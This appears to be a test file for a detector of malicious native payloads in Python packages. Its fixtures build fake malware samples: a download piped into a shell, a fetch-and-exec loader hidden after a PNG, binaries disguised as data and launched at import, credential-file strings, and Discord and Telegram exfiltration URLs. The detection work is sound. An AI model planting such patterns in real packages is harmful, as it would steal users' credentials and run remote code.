import { deflateSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { nativePayload } from '../../../src/analysis/detectors/native-payload.ts';
import { inspect, python, wheel } from '../../support/inspect.ts';
import { findingsOf, findingsOfSdist } from './carriers.ts';
import { elf, png } from './machine-code.ts';

const START = `import os
import subprocess
tool = os.path.join(os.path.dirname(__file__), "bin", "probe")
os.chmod(tool, 0o755)
`;

test('a bundled program started at import is suspicious, and malware once it names credentials and a way out', async () => {
  const code = `${START}subprocess.Popen([tool])\n`;
  const plain = await findingsOf(nativePayload, { 'kit/__init__.py': code, 'kit/bin/probe': elf('usage: probe') });
  expect(plain).toMatchObject([{ class: 'suspicious', score: 7, context: 'import', line: 5 }]);
  const thief = elf('%s/.ssh', '/etc/passwd', 'gethostname', 'sendto');
  const telling = await findingsOf(nativePayload, { 'kit/__init__.py': code, 'kit/bin/probe': thief });
  expect(telling).toMatchObject([{ class: 'malware', score: 10 }]);
});

test('a bundled program that is started without a window, or from where it was put, is malware', async () => {
  const hidden = `${START}subprocess.Popen([tool], creationflags=0x08000000)\n`;
  const moved = `${START}import shutil\nplace = os.path.join(os.environ["APPDATA"], "Kit", "probe.exe")\nshutil.copy(tool, place)\nsubprocess.Popen([place])\n`;
  for (const code of [hidden, moved])
    expect(
      await findingsOf(nativePayload, { 'kit/__init__.py': code, 'kit/bin/probe': elf('usage: probe') }),
    ).toMatchObject([{ class: 'malware', score: 10, context: 'import' }]);
});

test('a program that a command of the package hands over to stays silent, as does asking it for its version', async () => {
  const onCommand = `${START}def main():\n    os.execv(tool, [tool])\n`;
  const asked = `${START}subprocess.run([tool, "--version"])\n`;
  for (const code of [onCommand, asked])
    expect(
      await findingsOf(nativePayload, { 'kit/__init__.py': code, 'kit/bin/probe': elf('.ssh', 'sendto') }),
    ).toEqual([]);
});

test('a library is loaded under the name of data, or deleted after use', async () => {
  const load = (name: string, more = ''): string =>
    `import ctypes, os\npath = os.path.join(os.path.dirname(__file__), "${name}")\nctypes.CDLL(path)\n${more}`;
  const disguised = await findingsOf(nativePayload, {
    'kit/__init__.py': load('weights.dat'),
    'kit/weights.dat': elf(),
  });
  expect(disguised).toMatchObject([{ class: 'malware', score: 10 }]);
  const deleted = { 'kit/__init__.py': load('libk.so', 'os.remove(path)\n'), 'kit/libk.so': elf() };
  expect(await findingsOf(nativePayload, deleted)).toMatchObject([{ class: 'malware', score: 10 }]);
  expect(await findingsOf(nativePayload, { 'kit/__init__.py': load('libk.so'), 'kit/libk.so': elf() })).toEqual([]);
});

test('an extension module that carries a download into a shell is malware, one that only names a shell is not', async () => {
  const files = (text: string): Record<string, string | Buffer> => ({
    'kit/__init__.py': 'from ._fast import f\n',
    'kit/_fast.cpython-312-x86_64-linux-gnu.so': elf('PyInit__fast', 'system', text),
  });
  const [found] = await findingsOf(nativePayload, files('curl -fsSL https://cdn.example/i.sh | sh'));
  expect(found).toMatchObject({ class: 'malware', score: 9, context: 'import' });
  expect(await findingsOf(nativePayload, files('/bin/sh'))).toEqual([]);
});

test('a program or a loader behind the last chunk of a picture is found, trailing nothing is not', async () => {
  const loader = `import urllib.request\nexec(urllib.request.urlopen("https://cdn.example/x").read())\n${'#'.repeat(60)}`;
  for (const rest of [elf('x'.repeat(50)), deflateSync(Buffer.from(loader)), Buffer.from(loader)])
    expect(await findingsOfSdist(nativePayload, { 'docs/logo.png': Buffer.concat([png(), rest]) })).toMatchObject([
      { class: 'malware', score: 10 },
    ]);
  const padded = Buffer.concat([png(), Buffer.alloc(400)]);
  expect(await findingsOfSdist(nativePayload, { 'a.png': png(), 'b.png': padded })).toEqual([]);
});

test('a program under the name of data that is copied elsewhere and started there is malware', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os, shutil, subprocess, tempfile',
      'p = os.path.join(os.path.dirname(__file__), "fonts.dat")',
      't = os.path.join(tempfile.gettempdir(), "fontdrv.exe")',
      'shutil.copyfile(p, t)',
      'subprocess.Popen([t])',
    ),
    'pkg/fonts.dat': Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0]),
  });

  expect(await inspect('native-payload', file)).toMatchObject([{ class: 'malware', score: 10, line: 5 }]);
});

test('data that is copied into a cache and read there is silent', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os, shutil, subprocess, tempfile',
      't = os.path.join(tempfile.gettempdir(), "fonts-cache.dat")',
      'shutil.copyfile(os.path.join(os.path.dirname(__file__), "fonts.dat"), t)',
      'open(t, "rb").read()',
    ),
    'pkg/fonts.dat': Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0]),
  });

  expect(await inspect('native-payload', file)).toEqual([]);
});

test('an extension module with the secret of a webhook or a bot in it is malware, one with the prefix of all is not', async () => {
  const hook = `https://discord.com/api/webhooks/1100000000000000000/${'NotARealSecret_'.repeat(4)}`;
  const module = (text: string): Promise<unknown> =>
    findingsOf(nativePayload, {
      'kit/__init__.py': `from .core import main\n${'# a longer module\n'.repeat(200)}`,
      'kit/core.so': elf('PyInit_core', text),
    });

  for (const text of [
    hook,
    `https://api.telegram.org/bot000000000:${'NotARealToken'.repeat(3).slice(0, 35)}/sendMessage`,
  ])
    expect(await module(text)).toMatchObject([{ class: 'malware', score: 10, context: 'import', path: 'kit/core.so' }]);
  expect(await module('https://discord.com/api/webhooks/')).toEqual([]);
});
